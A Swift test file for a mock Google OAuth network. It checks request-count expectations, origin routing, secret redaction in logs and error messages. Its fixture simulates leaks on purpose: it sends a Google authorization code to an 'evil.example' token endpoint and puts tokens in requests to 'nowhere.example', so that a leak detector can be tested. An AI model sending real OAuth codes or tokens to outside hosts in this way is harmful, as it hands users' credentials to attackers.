import AssayJSON
import AssayTestSupport
import Testing

@testable import MockGoogle

struct NetworkTests {
    static func network() throws -> MockNetwork {
        let text = #"""
            {"google": {}, "evil": {"base_url": "https://evil.example", "documents": {
              "/keys.json": {"body": {"jwks": ["attacker"]}}, "/page": {"body": "hi", "media_type": "text/plain"}}}}
            """#
        let forge = try Fixture.forge.get()
        return MockNetwork(
            try Fixture.providers(text, file: "network.json")
                .map { MockGoogleProvider($0, forge: forge, startingAt: Fixture.start) })
    }

    static func send(
        _ network: inout MockNetwork, _ method: String, _ url: String, _ headers: [HeaderField] = [],
        _ body: String = ""
    ) throws -> MockResponse {
        let request = try #require(WebRequest(method: method, url: url, headers: headers, body: Array(body.utf8)))
        return network.respond(to: request, at: Fixture.start)
    }

    static let form = [HeaderField("content-type", "application/x-www-form-urlencoded; charset=utf-8")]

    /// A network after an honest sign-in, a code sent to the evil provider and to nobody, and a token in a query.
    static func used() throws -> MockNetwork {
        var network = try network()
        let query = Browser.parameters(Browser.authorization, [:]).text()
        let answer = try send(&network, "GET", "https://accounts.google.com/o/oauth2/v2/auth?" + query)
        let code = try #require(Browser.callback(answer)["code"])
        let exchange = Browser.exchange(code).text(.percent)
        let tokens = try Browser.json(send(&network, "POST", "https://oauth2.googleapis.com/token", form, exchange))
        let accessToken = try Browser.text(tokens, "access_token")
        _ = try send(&network, "POST", "https://evil.example/token", form, exchange)
        _ = try send(&network, "GET", "https://nowhere.example/cb?code=\(code)")
        _ = try send(
            &network, "GET", "https://nowhere.example/api", [HeaderField("authorization", "bearer \(accessToken)")])
        _ = try send(&network, "GET", "https://openidconnect.googleapis.com/v1/userinfo?access_token=\(accessToken)")
        for _ in 0..<3 { _ = try send(&network, "GET", "https://www.googleapis.com/oauth2/v3/certs") }
        return network
    }

    static let expectations: [Case<(expectation: String, failure: String?)>] = [
        Case("enough", (#"{"endpoint": "certs", "min": 3}"#, nil)),
        Case("too few", (#"{"endpoint": "certs", "min": 4}"#, "3 such requests to certs, expected at least 4")),
        Case("too many", (#"{"endpoint": "certs", "max": 2}"#, "3 such requests to certs, expected at most 2")),
        Case("not as many", (#"{"endpoint": "certs", "count": 2}"#, "3 such requests to certs, expected exactly 2")),
        Case(
            "at one provider",
            (
                #"{"endpoint": "token", "provider": "google", "max": 0}"#,
                "1 such request to token at google, expected exactly 0"
            )),
        Case("everywhere", (#"{"endpoint": "token", "count": 2}"#, nil)),
        Case("all requests", (#"{"count": 9}"#, nil)),
        Case("to nobody", (#"{"endpoint": "elsewhere", "host": "nowhere.example", "count": 2}"#, nil)),
        Case("to nobody else", (#"{"endpoint": "elsewhere", "host": "google.com", "count": 0}"#, nil)),
        Case(
            "with a parameter",
            (#"{"endpoint": "token", "provider": "google", "with": ["code_verifier"], "count": 1}"#, nil)),
        Case("without one", (#"{"endpoint": "token", "without": ["client_secret"], "count": 2}"#, nil)),
        Case("without one that is there", (#"{"endpoint": "token", "without": ["code"], "count": 0}"#, nil)),
        Case("of a value", (#"{"parameters": {"grant_type": "authorization_code"}, "count": 2}"#, nil)),
        Case("of another value", (#"{"parameters": {"grant_type": "refresh_token"}, "count": 0}"#, nil)),
        Case("for a scope", (#"{"endpoint": "authorize", "scopes": ["email", "openid"], "count": 1}"#, nil)),
        Case("for a scope that begins so", (#"{"endpoint": "authorize", "scopes": ["open"], "count": 0}"#, nil)),
        Case("for a scope and another", (#"{"scopes": ["openid", "drive"], "count": 0}"#, nil)),
        Case("in the query", (#"{"query": ["access_token"], "count": 1}"#, nil)),
        Case("a field", (#"{"headers": ["Authorization"], "count": 1}"#, nil)),
        Case("a method", (#"{"method": "POST", "count": 2}"#, nil)),
        Case("a status", (#"{"endpoint": "token", "status": 400, "count": 1}"#, nil)),
        Case("a secret in the query", (#"{"secret_in_query": true, "max": 0}"#, "2 such requests, expected exactly 0")),
        Case(
            "the code at another provider",
            (
                #"{"provider": "evil", "carries": {"secret": "code", "of": "google"}, "max": 0}"#,
                "1 such request at evil, expected exactly 0"
            )),
        Case("the code anywhere", (#"{"carries": {"secret": "code", "of": "google"}, "count": 3}"#, nil)),
        Case("the token anywhere", (#"{"carries": {"secret": "access_token", "of": "google"}, "count": 2}"#, nil)),
        Case("anything of the evil one", (#"{"carries": {"of": "evil"}, "count": 0}"#, nil)),
    ]

    @Test(arguments: expectations)
    func anExpectationCountsWhatItNames(_ row: Case<(expectation: String, failure: String?)>) throws {
        let network = try Self.used()
        let node = try JSON.parse(text: row.value.expectation, file: "vector.json")
        let failures = network.failures(of: [try LogExpectation(decoding: node, providers: network.names)])
        #expect(failures.map(\.error.message) == [row.value.failure].compactMap(\.self))
        #expect(failures.allSatisfy { $0.error.file == "vector.json" })
    }

    /// A request that is missing is told from one that must not be sent.
    @Test(arguments: [(#"{"endpoint": "token", "count": 9}"#, true), (#"{"secret_in_query": true, "max": 0}"#, false)])
    func aFailureSaysWhetherRequestsAreMissing(_ expectation: String, _ lacksRequests: Bool) throws {
        let network = try Self.used()
        let node = try JSON.parse(text: expectation, file: "vector.json")
        let failures = network.failures(of: [try LogExpectation(decoding: node, providers: network.names)])
        #expect(failures.map(\.lacksRequests) == [lacksRequests])
    }

    static let mistakes: [Case<(text: String, errors: [String])>] = [
        Case(
            "no bound",
            (#"{"endpoint": "certs"}"#, [#"e.json:1:14: $.endpoint: an expectation needs "min", "max" or "count""#])),
        Case("never fails", (#"{"min": 0}"#, [#"e.json:1:9: $.min: the expectation can never fail"#])),
        Case(
            "two bounds",
            (#"{"count": 1, "max": 2}"#, [#"e.json:1:11: $.count: use either "count" or "min" and "max""#])),
        Case("crossed", (#"{"min": 2, "max": 1}"#, [#"e.json:1:9: $.min: "min" is larger than "max""#])),
        Case(
            "endpoint",
            (
                #"{"endpoint": "cert", "max": 1}"#,
                [#"e.json:1:14: $.endpoint: unknown value "cert"; did you mean "certs"?"#]
            )),
        Case(
            "provider",
            (
                #"{"provider": "gogle", "max": 1}"#,
                [#"e.json:1:14: $.provider: unknown provider "gogle"; did you mean "google"?"#]
            )),
        Case(
            "member",
            (
                #"{"endpont": "certs", "max": 1}"#,
                [#"e.json:1:2: $.endpont: unknown member "endpont"; did you mean "endpoint"?"#]
            )),
        Case(
            "secret",
            (
                #"{"carries": {"secret": "codes", "of": "evil"}, "max": 0}"#,
                [#"e.json:1:24: $.carries.secret: unknown value "codes"; did you mean "code"?"#]
            )),
    ]

    @Test(arguments: mistakes)
    func aMistakeInAnExpectationIsReportedWithItsLocation(_ row: Case<(text: String, errors: [String])>) {
        let errors = Fixture.errors {
            let node = try JSON.parse(text: row.value.text, file: "e.json")
            _ = try LogExpectation(decoding: node, providers: ["google", "evil"])
        }
        #expect(errors == row.value.errors)
    }

    @Test(arguments: [
        ("https://www.googleapis.com/oauth2/v3/certs", 200),
        ("https://www.googleapis.com:443/oauth2/v3/certs", 200),
        ("https://evil.example/oauth2/v3/certs", 200), ("https://evil.example/keys.json", 200),
        ("https://accounts.google.com/oauth2/v3/certs", 404), ("https://www.googleapis.com/keys.json", 404),
        ("http://www.googleapis.com/oauth2/v3/certs", 0), ("https://www.googleapis.com:8443/oauth2/v3/certs", 0),
        ("https://evil.example@nowhere.example/", 0),
    ])
    func requestsGoToTheProviderAtTheirOriginOthersNowhere(_ url: String, _ status: Int) throws {
        var network = try Self.network()
        let response = try Self.send(&network, "GET", url)
        #expect(response.status == status)
        #expect((response.delivery.ending == .unreachable) == (status == 0))
        #expect(network.strayRequests.total == (status == 0 ? 1 : 0))
    }

    @Test
    func twoProvidersShareNoCodes() throws {
        var network = try Self.network()
        let query = Browser.parameters(Browser.authorization, [:]).text()
        let answer = try Self.send(&network, "GET", "https://evil.example/o/oauth2/v2/auth?" + query)
        let callback = try Browser.callback(answer)
        #expect(callback["iss"] == "https://evil.example")
        let code = try #require(callback["code"])
        #expect(network["evil"]?.issuedSecret(in: code) == .code)
        #expect(network["google"]?.issuedSecret(in: code) == nil)
        let response = try Self.send(
            &network, "POST", "https://oauth2.googleapis.com/token", Self.form, Browser.exchange(code).text())
        #expect(try Browser.json(response)["error_description"] == "Malformed auth code.")
    }

    @Test
    func twoProvidersOnOneOriginAreAMistake() {
        let errors = Fixture.errors {
            _ = try Fixture.providers(#"{"a": {}, "b": {}}"#, file: "w.json")
        }
        #expect(errors == [#"w.json:1:16: $.b: has the same origin as "a"; give it a "base_url""#])
    }

    @Test
    func noDescriptionShowsASecretAndEveryOtherParameterIsShown() throws {
        let network = try Self.used()
        let log = try #require(network["google"]).log
        let secrets = LogSecrets(network)
        func text(_ request: LoggedRequest) -> String { JSONWriter.text(request.documentValue(hiding: secrets)) }
        let texts = log.requests.map { "\($0) \(String(reflecting: $0))" + text($0) }
        let all = texts.joined() + network.strayRequests.requests.map(text).joined()
        #expect(!all.contains("4/0A"))
        #expect(!all.contains("ya29."))
        #expect(!all.contains(Fixture.verifier))
        #expect(all.contains(#"["code_verifier",{"bytes":43}]"#))
        #expect(all.contains(#"["state","s-1"]"#))
        var dumped = ""
        dump(network, to: &dumped)
        #expect(!dumped.contains("4/0A") && !dumped.contains("ya29.") && !dumped.contains("GOCSPX"))
        let request = try #require(WebRequest(method: "GET", url: "https://x.example/?code=4/0Ax"))
        #expect("\(request) \(String(reflecting: request))".contains("4/0A") == false)
    }

    @Test
    func aLogThatDroppedRequestsSaysSoButStillCountsEndpoints() throws {
        var browser = try Browser(#"{"log_capacity": 4}"#)
        for _ in 0..<10 { _ = try browser.certs() }
        let log = browser.provider.log
        #expect(log.requests.map(\.number) == [7, 8, 9, 10])
        #expect(log.dropped == 6)
        let network = MockNetwork([browser.provider])
        func failures(_ text: String) throws -> [String] {
            let node = try JSON.parse(text: text, file: "e.json")
            let expectation = try LogExpectation(decoding: node, providers: ["google"])
            return network.failures(of: [expectation]).map(\.error.message)
        }
        #expect(try failures(#"{"endpoint": "certs", "count": 10}"#) == [])
        #expect(
            try failures(#"{"endpoint": "certs", "method": "GET", "count": 10}"#)
                == [#"the log has dropped 6 requests; raise "log_capacity" to judge this"#])
        browser.provider.clearLog()
        #expect(browser.provider.log.total == 0)
    }
}
